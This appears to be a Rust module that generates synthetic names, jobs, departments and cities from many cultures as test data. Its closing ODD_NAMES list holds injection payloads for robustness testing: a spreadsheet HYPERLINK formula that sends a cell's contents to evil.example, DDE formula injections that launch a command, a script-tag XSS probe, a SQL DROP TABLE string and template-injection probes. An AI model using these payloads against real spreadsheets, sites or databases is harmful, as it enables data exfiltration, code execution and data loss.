//! Names of the world, and what people type where a name should be.

use rand::Rng;
use rand::seq::IndexedRandom;

/// A way to name people.
struct Culture {
    /// As written, and as in an address.
    given: &'static [(&'static str, &'static str)],
    surnames: &'static [(&'static str, &'static str)],
    /// Surname first, without a space.
    surname_first: bool,
    country: &'static str,
    city: &'static str,
    language: &'static str,
}

/// A person's name.
#[derive(Debug, Clone, Copy)]
pub(crate) struct Name {
    pub given: &'static str,
    pub surname: &'static str,
    pub given_ascii: &'static str,
    pub surname_ascii: &'static str,
    pub surname_first: bool,
    pub country: &'static str,
    pub city: &'static str,
    pub language: &'static str,
}

impl Name {
    /// The display name, in the order of the culture.
    pub fn display(&self) -> String {
        if self.surname_first {
            format!("{}{}", self.surname, self.given)
        } else {
            format!("{} {}", self.given, self.surname)
        }
    }
}

static CULTURES: &[Culture] = &[
    Culture {
        given: &[
            ("Emma", "emma"),
            ("Oliver", "oliver"),
            ("Grace", "grace"),
            ("Siobhán", "siobhan"),
            ("Liam", "liam"),
            ("Aisha", "aisha"),
            ("Mary-Jane", "mary-jane"),
            ("Noah", "noah"),
        ],
        surnames: &[
            ("O'Neill", "oneill"),
            ("Smith", "smith"),
            ("Nguyen-Jones", "nguyen-jones"),
            ("McAllister", "mcallister"),
            ("Whitfield", "whitfield"),
            ("D'Arcy", "darcy"),
            ("Okafor", "okafor"),
            ("St. John", "stjohn"),
        ],
        surname_first: false,
        country: "GB",
        city: "London",
        language: "en-GB",
    },
    Culture {
        given: &[
            ("Jürgen", "juergen"),
            ("Käthe", "kaethe"),
            ("Björn", "bjoern"),
            ("Annegret", "annegret"),
            ("Søren", "soeren"),
            ("Åsa", "aasa"),
            ("Matthias", "matthias"),
            ("Zoë", "zoe"),
        ],
        surnames: &[
            ("Müller", "mueller"),
            ("Groß", "gross"),
            ("von der Heydt", "vonderheydt"),
            ("Ångström", "aangstroem"),
            ("Østergård", "oestergaard"),
            ("Schmidt", "schmidt"),
            ("Weiß", "weiss"),
            ("Lindqvist", "lindqvist"),
        ],
        surname_first: false,
        country: "DE",
        city: "Köln",
        language: "de-DE",
    },
    Culture {
        given: &[
            ("François", "francois"),
            ("Chloé", "chloe"),
            ("Íñigo", "inigo"),
            ("María José", "mariajose"),
            ("João", "joao"),
            ("Conceição", "conceicao"),
            ("Niccolò", "niccolo"),
            ("Anaïs", "anais"),
        ],
        surnames: &[
            ("Lefèvre", "lefevre"),
            ("García Márquez", "garciamarquez"),
            ("Núñez", "nunez"),
            ("D'Angelo", "dangelo"),
            ("Gonçalves", "goncalves"),
            ("L'Hôpital", "lhopital"),
            ("Rossi", "rossi"),
            ("Ibáñez", "ibanez"),
        ],
        surname_first: false,
        country: "FR",
        city: "Besançon",
        language: "fr-FR",
    },
    Culture {
        given: &[
            ("Łukasz", "lukasz"),
            ("Zdeňka", "zdenka"),
            ("Đorđe", "djordje"),
            ("Ágnes", "agnes"),
            ("Ștefan", "stefan"),
            ("İbrahim", "ibrahim"),
            ("Işıl", "isil"),
            ("Jiří", "jiri"),
        ],
        surnames: &[
            ("Wójcik", "wojcik"),
            ("Dvořák", "dvorak"),
            ("Šimić", "simic"),
            ("Kovács", "kovacs"),
            ("Țepeș", "tepes"),
            ("Yıldız", "yildiz"),
            ("Güneş", "gunes"),
            ("Źdźbło", "zdzblo"),
        ],
        surname_first: false,
        country: "PL",
        city: "Łódź",
        language: "pl-PL",
    },
    Culture {
        given: &[
            ("Александра", "aleksandra"),
            ("Дмитрий", "dmitri"),
            ("Олена", "olena"),
            ("Тарас", "taras"),
            ("Ελένη", "eleni"),
            ("Γιώργος", "giorgos"),
            ("Նարե", "nare"),
            ("ნინო", "nino"),
        ],
        surnames: &[
            ("Иванова", "ivanova"),
            ("Щербаков", "shcherbakov"),
            ("Шевченко", "shevchenko"),
            ("Παπαδόπουλος", "papadopoulos"),
            ("Ξενάκης", "xenakis"),
            ("Պետրոսյան", "petrosyan"),
            ("ბერიძე", "beridze"),
            ("Ёлкин", "yolkin"),
        ],
        surname_first: false,
        country: "UA",
        city: "Київ",
        language: "uk-UA",
    },
    Culture {
        given: &[
            ("محمد", "mohammed"),
            ("فاطمة", "fatima"),
            ("ליאור", "lior"),
            ("שירה", "shira"),
            ("نرگس", "narges"),
            ("عائشة", "aisha"),
            ("יעל", "yael"),
            ("زینب", "zeynab"),
        ],
        surnames: &[
            ("العلي", "alali"),
            ("بن سلمان", "bensalman"),
            ("כהן", "cohen"),
            ("לוי", "levi"),
            ("حسینی", "hosseini"),
            ("القحطاني", "alqahtani"),
            ("מזרחי", "mizrahi"),
            ("رضایی", "rezaei"),
        ],
        surname_first: false,
        country: "AE",
        city: "دبي",
        language: "ar-AE",
    },
    Culture {
        given: &[
            ("अनन्या", "ananya"),
            ("राजेश", "rajesh"),
            ("সুমাইয়া", "sumaiya"),
            ("கவிதா", "kavitha"),
            ("สมชาย", "somchai"),
            ("Nguyễn", "nguyen"),
            ("Siti", "siti"),
            ("Thị Mai", "thimai"),
        ],
        surnames: &[
            ("शर्मा", "sharma"),
            ("पटेल", "patel"),
            ("চৌধুরী", "chowdhury"),
            ("முருகன்", "murugan"),
            ("ใจดี", "jaidee"),
            ("Trần", "tran"),
            ("Nurhaliza", "nurhaliza"),
            ("Đặng", "dang"),
        ],
        surname_first: false,
        country: "IN",
        city: "मुंबई",
        language: "hi-IN",
    },
    Culture {
        given: &[
            ("秀英", "xiuying"),
            ("伟", "wei"),
            ("さくら", "sakura"),
            ("太郎", "taro"),
            ("지우", "jiwoo"),
            ("민준", "minjun"),
            ("美咲", "misaki"),
            ("志明", "chiming"),
        ],
        surnames: &[
            ("王", "wang"),
            ("欧阳", "ouyang"),
            ("佐藤", "sato"),
            ("髙橋", "takahashi"),
            ("김", "kim"),
            ("남궁", "namgung"),
            ("渡邉", "watanabe"),
            ("陳", "chen"),
        ],
        surname_first: true,
        country: "JP",
        city: "東京",
        language: "ja-JP",
    },
    Culture {
        given: &[
            ("Tigist", "tigist"),
            ("ሰላም", "selam"),
            ("Chinwe", "chinwe"),
            ("Kwabena", "kwabena"),
            ("Ngũgĩ", "ngugi"),
            ("Thandiwe", "thandiwe"),
            ("Ọlá", "ola"),
            ("Keoni", "keoni"),
        ],
        surnames: &[
            ("Bekele", "bekele"),
            ("ተስፋዬ", "tesfaye"),
            ("Achebe", "achebe"),
            ("Mensah", "mensah"),
            ("wa Thiong'o", "wathiongo"),
            ("Dlamini", "dlamini"),
            ("Adéyẹmí", "adeyemi"),
            ("Kealiʻi", "kealii"),
        ],
        surname_first: false,
        country: "NG",
        city: "Lagos",
        language: "en-NG",
    },
];

/// Job titles.
pub(crate) static JOBS: &[&str] = &[
    "Accountant",
    "Account Manager",
    "Architect",
    "Buyer",
    "Controller",
    "Customer Advisor",
    "Data Analyst",
    "Developer",
    "Director",
    "Electrician",
    "Facility Manager",
    "HR Advisor",
    "Intern",
    "Lawyer",
    "Nurse",
    "Office Manager",
    "Planner",
    "Product Owner",
    "Recruiter",
    "Sales Representative",
    "Service Desk Engineer",
    "Teacher",
    "Technician",
    "Warehouse Worker",
];

/// Departments.
pub(crate) static DEPARTMENTS: &[&str] = &[
    "Engineering",
    "Finance",
    "Human Resources",
    "IT",
    "Legal",
    "Logistics",
    "Marketing",
    "Operations",
    "Procurement",
    "R&D",
    "Sales",
    "Support",
    "Vertrieb",
    "営業部",
    "المبيعات",
];

/// Places.
pub(crate) static CITIES: &[&str] = &[
    "Amsterdam",
    "Berlin",
    "Chennai",
    "Dublin",
    "Genève",
    "İstanbul",
    "Kraków",
    "Lagos",
    "Lisboa",
    "London",
    "Malmö",
    "Montréal",
    "New York",
    "Oslo",
    "Praha",
    "São Paulo",
    "Singapore",
    "Tokyo",
    "Wien",
    "Zürich",
];

/// Someone's name.
pub(crate) fn pick(rng: &mut impl Rng) -> Name {
    let culture = rng.random_range(0..CULTURES.len());
    let given = rng.random_range(0..CULTURES[culture].given.len());
    of(culture, given, rng)
}

/// The name of one of the first: no two are called alike.
pub(crate) fn spread(place: usize, rng: &mut impl Rng) -> Name {
    let culture = place % CULTURES.len();
    of(
        culture,
        place / CULTURES.len() % CULTURES[culture].given.len(),
        rng,
    )
}

fn of(culture: usize, given: usize, rng: &mut impl Rng) -> Name {
    let culture = &CULTURES[culture];
    let (given, given_ascii) = culture.given[given];
    let (surname, surname_ascii) = culture.surnames[rng.random_range(0..culture.surnames.len())];
    Name {
        given,
        surname,
        given_ascii,
        surname_ascii,
        surname_first: culture.surname_first,
        country: culture.country,
        city: culture.city,
        language: culture.language,
    }
}

/// One of a list.
pub(crate) fn any(list: &'static [&'static str], rng: &mut impl Rng) -> &'static str {
    list.choose(rng).copied().unwrap_or_default()
}

/// Display names that something downstream has stumbled over before: spreadsheets, pages,
/// fonts, sorting, trimming, JSON.
pub(crate) static ODD_NAMES: &[&str] = &[
    "=HYPERLINK(\"https://evil.example/?\"&A1,\"Payroll\")",
    "<script>alert('users')</script>",
    "+1+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3",
    "Robert'); DROP TABLE users;--",
    "🧑‍🚀 Valentina 🚀🇺🇦 👩🏽‍🔬",
    "\u{202E}detnirp sdrawkcab\u{202C}",
    "Z\u{0335}a\u{0336}l\u{0337}g\u{0338}o\u{0301}\u{0302}\u{0303}",
    "Zero\u{200B}Width\u{FEFF}Space",
    "Tab\tand\nline break",
    "\"quoted\", with comma; semicolon",
    "back\\slash / slash",
    "null",
    "  spaces around  ",
    "e\u{0301}cole décomposée",
    "ﷺ ﬁne ligature ①",
    "&amp; <b>bold</b> &#x27;",
    "NaN",
    "{{7*7}} ${7*7} %s %n",
];
